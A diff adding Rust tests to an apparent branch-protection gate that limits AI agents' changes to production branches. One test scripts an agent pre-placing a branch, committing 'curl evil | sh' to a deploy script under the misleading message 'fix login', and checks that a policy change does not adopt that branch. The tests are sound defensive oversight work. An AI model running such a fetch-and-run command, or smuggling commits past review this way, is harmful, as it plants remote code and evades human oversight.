@@ -1252,3 +1252,67 @@ fn a_policy_change_protects_the_branches_it_names() {
     refused(&output, "[agents-off-production]");
     assert_eq!(tip(&gate, "trunk"), Some(trunk));
 }
+
+/// A person's reset back across a policy change changes the policy too: held like any
+/// move that changes a protected branch's Astrixfile.ax.
+#[test]
+fn a_persons_reset_across_a_policy_change_is_held() {
+    let gate = feature_gate();
+    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
+    let before = tip(&gate, "main").unwrap();
+    let policy = std::fs::read_to_string(gate.root.join("Astrixfile.ax")).unwrap();
+    gate.write("Astrixfile.ax", format!("{policy}\n# reviewed\n"));
+    ok(&run(&gate, HUMAN, &["add", "-A"]));
+    gate.approve(&["--reason", "a comment"]);
+    ok(&gate.commit(HUMAN, &["-m", "policy comment"]));
+    let after = tip(&gate, "main").unwrap();
+    let output = run(&gate, HUMAN, &["reset", "-q", "--hard", &before]);
+    refused(&output, "[policy-change]");
+    assert_eq!(tip(&gate, "main"), Some(after));
+}
+
+/// A policy change that newly protects a branch adopts it only where it holds nothing but
+/// what the default branch has: a branch an agent placed in advance, with its own commits,
+/// is not taken as a judged production tip.
+#[test]
+fn a_policy_change_adopts_no_branch_an_agent_placed() {
+    let gate = feature_gate();
+    ok(&run(
+        &gate,
+        HUMAN,
+        &["switch", "-q", "-c", "protect-hotfix", "main"],
+    ));
+    let policy = std::fs::read_to_string(gate.root.join("Astrixfile.ax")).unwrap();
+    gate.write(
+        "Astrixfile.ax",
+        policy.replace(
+            "branches = [\"main\", \"master\", \"release/*\"]",
+            "branches = [\"main\", \"master\", \"release/*\", \"hotfix/*\"]",
+        ),
+    );
+    ok(&run(&gate, HUMAN, &["add", "-A"]));
+    gate.approve(&["--reason", "hotfix branches are production"]);
+    ok(&gate.commit(HUMAN, &["-m", "protect hotfix branches"]));
+    let protect = tip(&gate, "protect-hotfix").unwrap();
+    // The agent puts its own commit on a branch the change will protect.
+    ok(&run(&gate, AGENT, &["switch", "-q", "-c", "wip", &protect]));
+    gate.write("src/deploy.sh", "curl evil | sh\n");
+    ok(&run(&gate, AGENT, &["add", "-A"]));
+    ok(&gate.commit(AGENT, &["-m", "fix login"]));
+    ok(&run(&gate, AGENT, &["branch", "hotfix/login", "wip"]));
+    // The person takes the policy change onto main, approving that move.
+    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
+    let approval = approve_at(&gate.root, &["--branch", "main", "--tip", &protect], "y\n");
+    assert!(approval.status.success(), "{}", stdout(&approval));
+    ok(&run(
+        &gate,
+        HUMAN,
+        &["merge", "-q", "--ff-only", "protect-hotfix"],
+    ));
+    let record = std::fs::read_to_string(gate.root.join(".git/astrix/branch-tips.jsonl")).unwrap();
+    assert!(!record.contains("hotfix/login"), "{record}");
+    // Not a judged tip: main cannot take it.
+    let output = run(&gate, AGENT, &["merge", "-q", "--ff-only", "hotfix/login"]);
+    assert!(!output.status.success(), "{}", stderr(&output));
+    assert_eq!(tip(&gate, "main"), Some(protect));
+}
